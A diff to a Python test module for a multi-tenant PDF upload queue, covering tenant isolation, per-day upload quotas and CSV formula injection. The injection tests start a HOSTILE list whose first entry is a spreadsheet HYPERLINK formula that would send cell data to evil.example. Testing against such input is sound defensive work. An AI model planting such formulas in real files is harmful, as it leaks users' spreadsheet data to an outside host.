@@ -10,6 +10,7 @@ import uuid
 import zipfile
 from collections.abc import AsyncIterator, Callable
 from contextlib import asynccontextmanager
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -27,7 +28,6 @@ from pdfqueue.samples import CLEAN, build_corpus, write_zip
 from pdfqueue.settings import Settings
 from pdfqueue.state import BatchState
 
-ACME = {"Authorization": "Bearer secret-token"}
 GLOBEX = {"Authorization": "Bearer globex-token"}
 ZIP = {"Content-Type": "application/zip"}
 MiB = 1024**2
@@ -53,12 +53,17 @@ def stored_zip(path: Path, size: int) -> Path:
     return path
 
 
+def _today() -> str:
+    """The UTC day the bytes-per-day counter of an upload made now is kept under."""
+    return datetime.now(UTC).strftime("%Y%m%d")
+
+
 async def batch_ids(db: asyncpg.Connection, tenant: str) -> set[str]:
     rows = await db.fetch("SELECT id FROM pdfqueue_batches WHERE tenant = $1", tenant)
     return {r["id"] for r in rows}
 
 
-# --- item 4: one users table, many tenants -----------------------------------------------------
+# --- one users table, many tenants ---------------------------------------------------------------
 
 
 @pytest.mark.settings(users_tenant_column="tenant")
@@ -157,7 +162,7 @@ async def test_the_report_names_users_only_to_trusted_tenants(
     assert all(r["object_key"].startswith(f"pdfs/{r['user_id']}/") for r in shown)
 
 
-# --- item 11: per-tenant quotas -----------------------------------------------------------------
+# --- per-tenant quotas on uploads ----------------------------------------------------------------
 
 
 @asynccontextmanager
@@ -490,13 +495,7 @@ def test_quotas_have_defaults_and_per_tenant_overrides(monkeypatch: pytest.Monke
         Settings(quota_concurrent_batches=-1)
 
 
-def _today() -> str:
-    from datetime import UTC, datetime
-
-    return datetime.now(UTC).strftime("%Y%m%d")
-
-
-# --- item 12: CSV formula injection -------------------------------------------------------------
+# --- CSV formula injection -----------------------------------------------------------------------
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1;"open me").pdf',
